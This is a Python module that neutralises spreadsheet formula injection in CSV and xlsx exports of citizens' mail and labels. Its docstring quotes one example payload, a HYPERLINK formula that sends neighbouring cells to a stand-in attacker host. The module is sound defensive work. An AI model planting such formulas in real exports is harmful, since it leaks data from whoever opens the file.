"""The one formula-injection guard: every CSV and xlsx cell the program writes passes here.

Text in exports comes from citizens' mail, imported files and taxonomy labels. A
spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula, so `=HYPERLINK("http://evil.example/?"&B2;"Se sagen")` in a
subject would send the neighbouring cells away when the advisor opens the export.

- CSV: such a cell gets a leading apostrophe, which spreadsheets show as text. A value that
  already starts with apostrophes before a trigger gets one more, so `unguard` (applied by
  the CSV reader, store/tabular.py) gives back exactly what was exported: the register's
  export → import round trip stays lossless. Plain numbers (`-5`, `+4512345678`) are left
  alone: they are not formulas, and phone numbers must survive.
- xlsx: text cells are stored as strings (openpyxl would store `=…` as a formula), with the
  characters XML cannot hold replaced; the text itself is kept.

tests/store/test_cells.py greps the code base: `csv.writer`, `csv.DictWriter` and
`Workbook(` appear nowhere else, so a new writer cannot skip the guard.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any, TextIO

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

_TRIGGER = re.compile(r"'*[ \t\r\n]*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
# XML 1.0 cannot hold these; openpyxl refuses them (IllegalCharacterError).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _dangerous(text: str) -> bool:
    return _TRIGGER.match(text) is not None and _PLAIN_NUMBER.fullmatch(text) is None


def csv_text(text: str) -> str:
    """A CSV cell's text that no spreadsheet runs as a formula."""
    return "'" + text if _dangerous(text) else text


def unguard(text: str) -> str:
    """The inverse of csv_text, for the CSV reader."""
    if text.startswith("'") and _dangerous(text[1:]):
        return text[1:]
    return text


def csv_value(v: object) -> object:
    return csv_text(v) if isinstance(v, str) else v


class CsvWriter:
    """csv.writer with every cell guarded. Same dialect arguments as csv.writer."""

    def __init__(self, fh: TextIO, **fmt: Any) -> None:
        self._w = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[object]) -> None:
        self._w.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def new_workbook(*, write_only: bool = False) -> Workbook:
    """An empty workbook with no sheets. write_only streams rows (large exports, linear
    time); the default keeps sheets editable (formatting after the rows are in)."""
    from openpyxl import Workbook

    wb = Workbook(write_only=write_only)
    if not write_only:
        wb.remove(wb.active)  # type: ignore[arg-type]
    return wb


def xlsx_cell(ws: Any, value: object, *, number_format: str | None = None) -> Cell:
    """A detached cell for `ws.append`: text stays text, never a formula."""
    from openpyxl.cell.cell import Cell

    if isinstance(value, str):
        value = _XML_ILLEGAL.sub("\ufffd", value)
    cell = Cell(ws, row=1, column=1, value=value)  # type: ignore[arg-type]  # append places it
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl marks '=…' a formula and '#N/A' an error
    if number_format is not None:
        cell.number_format = number_format
    return cell


def _xlsx_value(ws: Any, value: object, number_format: str | None) -> object:
    # Plain values are cheapest for openpyxl; a Cell only where the type must be forced.
    if number_format is None and (
        not isinstance(value, str)
        or not (value[:1] in ("=", "#") or _XML_ILLEGAL.search(value))
    ):
        return value
    return xlsx_cell(ws, value, number_format=number_format)


def xlsx_append(ws: Any, values: Sequence[object], *, formats: Sequence[str | None] = ()) -> None:
    """Append one row in constant time (asking the sheet for its max_row on every row, as
    the old helper did, made a 60,000-row export quadratic)."""
    fmts = list(formats) + [None] * (len(values) - len(formats))
    ws.append([_xlsx_value(ws, v, f) for v, f in zip(values, fmts, strict=False)])
